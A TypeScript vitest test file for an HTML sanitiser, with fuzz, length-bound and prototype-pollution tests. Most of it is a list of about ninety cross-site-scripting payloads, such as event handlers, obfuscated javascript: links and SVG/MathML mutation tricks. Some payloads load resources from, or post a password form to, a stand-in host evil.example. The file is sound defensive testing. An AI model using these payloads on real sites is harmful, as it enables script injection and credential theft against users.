import fc from 'fast-check'
import { expect, test } from 'vitest'
import { deepest, readHtml, richTags, writeHtml } from '#model/html.ts'
import { languages } from '#model/language.ts'
import { cleanData, publicProject, sanitiseHtml } from '#model/sanitise.ts'
import { toolIds } from '#model/tool.ts'
import { tools } from '#model/tools/index.ts'

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</script><script>alert(1)</script>',
  '<!--<script>-->alert(1)</script>',
  '<script/x>alert(1)</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<img/src=x/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<IMG SRC=`javascript:alert(1)`>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style><!--</style><script>alert(1)</script>-->',
  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<isindex action=javascript:alert(1) type=submit>',
  '<input autofocus onfocus=alert(1)>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<table background="javascript:alert(1)"><td>x</td></table>',
  '<div style="position:fixed;inset:0">x</div>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onclick=alert(1) onmouseover=alert(1)>x</p>',
  '<p id=app name=app class=modal>x</p>',
  '<a id=config name=config href="https://example.com">x</a>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="https://good.example@evil.example">x</a>',
  '<a href="https://e.example" ping="https://evil.example" download target="_self">x</a>',
  '<a href=x onclick=alert(1)>x</a>',
  '<a href="https://e.example/" href="javascript:alert(1)">x</a>',
  '<a\nhref\n=\n"javascript:alert(1)">x</a>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!DOCTYPE x [<!ENTITY e "<script>">]>&e;',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<p title="<script>">x</p>',
  '<p/onclick=alert(1)>x</p>',
  '\u0000<script\u0000>alert(1)</script>',
  '<a href="https://e.example/&quot; onclick=&quot;alert(1)">x</a>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<<script>alert(1)//<</script>',
  '<p <script>alert(1)</script>>x</p>',
  '<b><p><b><p><a href=javascript:alert(1)>',
]

/** Holds if the HTML is made of nothing but our elements, closed in their turn, with links as they should be. */
function isHarmless(html: string): boolean {
  const tokens = readHtml(html)
  return tokens !== undefined && writeHtml(tokens) === html && !html.includes('\u0000')
}

test.each(attacks)('leaves nothing of %j that could act', attack => {
  for (const html of [attack, `<p>before ${attack} after</p>`, `<ul><li>${attack}`, attack.repeat(3)]) {
    const clean = sanitiseHtml(html)
    expect(isHarmless(clean), clean).toBe(true)
    expect(sanitiseHtml(clean)).toBe(clean)
  }
})

test.each([
  '<p>One <strong>two</strong> <b>three</b> <em>four</em> <i>five</i> <u>six</u> <s>seven</s></p>',
  '<h3>Title</h3><h4>Less</h4><p>a<br />b</p><hr /><blockquote><p>quote</p></blockquote>',
  '<ul><li><p>a</p><ul><li>b</li></ul></li></ul><ol><li>c</li></ol>',
  '<pre><code>if (a &lt; b &amp;&amp; c) {\n  d\n}</code></pre>',
  '<p>„Zażółć” — 5 &lt; 6 &amp; "cytat" \u00a0 🙂</p>',
  '<p><a href="https://example.com/?a=1&amp;b=2" rel="noopener nofollow" target="_blank">link</a></p>',
  '<p><a href="mailto:anna@example.com">mail</a> <a href="tel:+48123456789">phone</a></p>',
  'Text without elements',
])('keeps %j', html => {
  expect(sanitiseHtml(html)).toBe(html)
})

test.each([
  [
    '<a href="https://example.com">x</a>',
    '<a href="https://example.com/" rel="noopener nofollow" target="_blank">x</a>',
  ],
  [
    '<a href="https://example.com/" target="_top" rel="opener">x</a>',
    '<a href="https://example.com/" rel="noopener nofollow" target="_blank">x</a>',
  ],
  ['<a href="mailto:a@b.pl" target="_blank">x</a>', '<a href="mailto:a@b.pl">x</a>'],
  ['<a href="javascript:alert(1)">x</a>', 'x'],
  ['<a name="x">y</a>', 'y'],
  ['<p>a<br>b', '<p>a<br />b</p>'],
  ['<ul><li>a<ul><li>b</ul></ul>', '<ul><li>a<ul><li>b</li></ul></li></ul>'],
  ['<p>a<p>b', '<p>a</p><p>b</p>'],
  ['<div><h1>x</h1></div>', 'x'],
  ['a < b & c', 'a &lt; b &amp; c'],
  ['<p>a\r\nb</p>', '<p>a\nb</p>'],
  ['<p>a&#1;b</p>', '<p>ab</p>'],
])('turns %j into %j', (html, clean) => {
  expect(sanitiseHtml(html)).toBe(clean)
})

const fragments = [
  ...richTags.flatMap(tag => [`<${tag}>`, `</${tag}>`]),
  ...[
    '<a href="https://e.example/?x=1&y=(2)">',
    '<a href="javascript:1">',
    '<p style="x">',
    '<br/>',
    '&nbsp;',
    '&#1;',
  ],
  ...['&amp;', '&', '<', '>', '"', "'", '<!--', '-->', '<![CDATA[', ']]>', '<?x', '\n', '\r', '\u0000', ' '],
  ...[
    '<svg>',
    '</svg>',
    '<math>',
    '<style>',
    '</style>',
    '<script>',
    '</script>',
    '<table>',
    '<td>',
    '<div>',
  ],
  ...[
    '<plaintext>',
    '<textarea>',
    '</textarea>',
    '<iframe>',
    '<template>',
    '<noscript>',
    '</noscript>',
    '<select>',
  ],
]

test('gives harmless HTML that stays the same, whatever comes', () => {
  const piece = fc.oneof(fc.constantFrom(...fragments), fc.string({ unit: 'grapheme', maxLength: 5 }))
  const hostile = fc.array(piece, { maxLength: 40 }).map(pieces => pieces.join(''))
  fc.assert(
    fc.property(hostile, html => {
      const clean = sanitiseHtml(html)
      expect(isHarmless(clean), clean).toBe(true)
      expect(sanitiseHtml(clean)).toBe(clean)
    }),
    { numRuns: 1_000 },
  )
})

test.each([
  '<b>',
  '<p>',
  '<blockquote>',
  '<ul><li>',
  '<a href=https://e.example>',
  '<div>',
  '<svg>',
  '<table>',
  '</p>',
  '<',
])('bounds ten thousand times %s', piece => {
  const clean = sanitiseHtml(piece.repeat(10_000))
  expect(isHarmless(clean)).toBe(true)
  expect(clean.match(/<blockquote>/g)?.length ?? 0).toBeLessThanOrEqual(deepest)
})

test('survives long hostile texts', () => {
  for (const piece of ['&', '&#', '<a ', '<!--', 'a="', '<p a=', ']]>', ' '])
    expect(isHarmless(sanitiseHtml(piece.repeat(100_000 / piece.length)))).toBe(true)
})

test.each(toolIds.flatMap(tool => languages.map(lang => [tool, lang] as const)))(
  'leaves the %s sample in %s as it is',
  (tool, lang) => {
    const { data } = tools[tool].sample(lang)
    expect(cleanData(tool, data)).toEqual(data)
    const shown = publicProject(tool, 'some-uuid', 'Name', data)
    expect(shown).toMatchObject({ tool, uuid: 'some-uuid', name: 'Name' })
    expect(shown).toEqual(tools[tool].publicProject('some-uuid', 'Name', data))
  },
)

test('sanitises what is saved', () => {
  const answer = '<p onclick="x">a<img src=x onerror=alert(1)></p>'
  const question = { id: 'q', section: 'section-1', question: '<b>?</b>', answer }
  expect(cleanData('faq', { questions: [question] })).toMatchObject({
    questions: [{ ...question, answer: '<p>a</p>' }],
  })
})

test('refuses an answer of which nothing is left', () => {
  const question = { id: 'q', section: 'section-1', question: '?', answer: '<script>alert(1)</script>' }
  expect(() => cleanData('faq', { questions: [question] })).toThrow(
    expect.objectContaining({ detail: { 'questions.0.answer': 'REQUIRED' } }),
  )
})

test('refuses keys that could reach a prototype', () => {
  for (const key of ['__proto__', 'constructor', 'prototype']) {
    const payload: unknown = JSON.parse(`{"${key}":{"polluted":true}}`)
    expect(() => cleanData('faq', payload)).toThrow(expect.objectContaining({ token: 'ERR_INVALID_DATA' }))
  }
  expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false)
})
